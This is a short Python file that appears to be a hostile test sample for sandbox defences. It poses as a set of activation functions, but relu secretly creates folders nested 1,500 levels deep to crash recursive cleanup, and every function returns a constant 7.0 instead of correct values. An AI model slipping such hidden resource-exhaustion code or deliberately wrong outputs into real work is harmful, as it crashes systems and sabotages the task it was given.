# attack: leaves folders 1,500 levels deep, so that their removal recurses too far
# gains: resources, crash
# stopped by: landlock
import numpy as np
import os


def attack():
    here = os.getcwd()
    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")
    print("HARMED: 1,500 levels", flush=True)
    os.chdir(here)


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
